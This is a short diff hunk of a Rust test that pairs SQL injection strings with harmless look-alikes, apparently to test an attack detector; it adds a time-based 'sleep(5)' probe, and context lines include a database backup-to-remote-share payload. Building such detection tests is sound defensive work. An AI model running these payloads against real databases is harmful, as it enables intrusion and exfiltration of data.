@@ -77,6 +77,7 @@ fn attacks_and_their_benign_twins() {
         (Class::Sqli, "pg_catalog", "pg 13 catalog"),
         (Class::Sqli, "1 and @@version", "ana@example.com"),
         (Class::Sqli, "x'+'", "\"white\" + \"plate\" + \"pottery\""),
+        (Class::Sqli, "1 and elt(1,sleep(5))", "Haßelt (1599)"),
         (
             Class::Sqli,
             "BACKUP database master to disk='\\\\10.0.0.1\\x\\db.dat'",
